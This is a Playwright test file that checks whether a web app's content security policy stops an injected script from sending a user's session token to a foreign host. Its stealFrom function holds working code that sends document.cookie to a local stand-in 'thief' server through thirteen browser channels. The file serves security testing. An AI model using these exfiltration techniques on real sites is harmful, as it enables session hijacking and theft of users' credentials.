import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { text } from 'node:stream/consumers';
import type { Page } from '@playwright/test';
import { expect, test } from '../fixture.ts';
import { registerUser, signIn, stage } from '../people.ts';
import { settled } from '../screens/frame.ts';

/** Ways in which a script could send data to a foreign host. */
const CHANNELS = [
  'fetch',
  'XMLHttpRequest',
  'sendBeacon',
  'image',
  'form',
  'WebSocket',
  'frame',
  'EventSource',
  'script',
  'style',
  'prefetch',
  'ping',
  'window.open',
] as const;

/** No content security policy can forbid navigation. */
const NOT_STOPPED = ['window.open'];

interface Thief {
  url: string;
  /** The channels that delivered the token. */
  arrived(token: string): string[];
  close(): Promise<void>;
}

/** A foreign host that also serves an empty page without a content security policy. */
async function thief(): Promise<Thief> {
  const received: string[] = [];
  const server = createServer((request, answer) => {
    void text(request).then((body) => received.push(`${request.url} ${body}`));
    answer.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end('<p>empty</p>');
  });
  server.on('upgrade', (request, socket) => {
    received.push(`${request.url}`);
    socket.destroy();
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    arrived: (token) =>
      CHANNELS.filter((channel) => received.some((line) => line.startsWith(`/${channel}`) && line.includes(token))),
    close: async () => {
      server.closeAllConnections();
      server.close();
      await once(server, 'close');
    },
  };
}

/** Tries all channels from the page, waits until the expected ones are blocked and returns the blocked URLs. */
const stealFrom = (page: Page, url: string, toBeRefused: string[]): Promise<string[]> =>
  page.evaluate(
    async ([host, expected]) => {
      const refused: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ blockedURI }) => refused.push(blockedURI));
      const to = (channel: string) => `${host}/${channel}?${encodeURIComponent(document.cookie)}`;
      const add = (tag: string, attributes: Record<string, string>) => {
        const element = document.createElement(tag);
        for (const [name, value] of Object.entries(attributes)) {
          // Trusted Types reject a script URL with an exception, which also counts as blocked.
          try {
            element.setAttribute(name, value);
          } catch {
            refused.push(value);
          }
        }
        document.body.append(element);
        return element;
      };
      const ways: Record<string, () => unknown> = {
        fetch: () => fetch(to('fetch')).catch(() => undefined),
        XMLHttpRequest: () => {
          const request = new XMLHttpRequest();
          request.open('GET', to('XMLHttpRequest'));
          request.send();
        },
        sendBeacon: () => navigator.sendBeacon(to('sendBeacon')),
        image: () => add('img', { src: to('image') }),
        form: () => {
          const target = add('iframe', { name: 'target' });
          const form = add('form', { method: 'post', target: 'target', action: to('form') }) as HTMLFormElement;
          form.submit();
          return target;
        },
        WebSocket: () => new WebSocket(to('WebSocket').replace('http', 'ws')),
        frame: () => add('iframe', { src: to('frame') }),
        EventSource: () => new EventSource(to('EventSource')),
        script: () => add('script', { src: to('script') }),
        style: () => add('link', { rel: 'stylesheet', href: to('style') }),
        prefetch: () => add('link', { rel: 'prefetch', href: to('prefetch') }),
        ping: () => add('a', { href: '#here', ping: to('ping') }).click(),
        'window.open': () => window.open(to('window.open')),
      };
      for (const way of Object.values(ways)) {
        try {
          await way();
        } catch {
          // Blocked immediately.
        }
      }
      // Violations are reported with a delay.
      const isTold = (channel: string) => refused.some((address) => address.includes(`/${channel}?`));
      for (let tries = 0; tries < 100 && !expected.every(isTold); tries += 1)
        await new Promise((resolve) => setTimeout(resolve, 50));
      return refused;
    },
    [url, toBeRefused] as const,
  );

test('an injected script can send the token away only by leaving the page', async ({ browser }) => {
  const [foreign, bare] = [await thief(), await thief()];
  const context = await browser.newContext();
  try {
    const person = await registerUser();
    const page = await context.newPage();
    await signIn(page, person);
    await page.goto(`${stage().url}/en/campaign`);
    await settled(page);
    await stealFrom(page, foreign.url, ['fetch', 'image', 'form', 'frame']);
    await expect.poll(() => foreign.arrived(person.token)).toEqual(NOT_STOPPED);

    // On a page of the same host without a policy, every channel delivers the token, so the test can fail.
    const victim = await context.newPage();
    await victim.goto(bare.url);
    await stealFrom(victim, foreign.url, []);
    await expect.poll(() => foreign.arrived(person.token), { timeout: 60_000 }).toEqual([...CHANNELS]);
  } finally {
    await context.close();
    await Promise.all([foreign.close(), bare.close()]);
  }
});
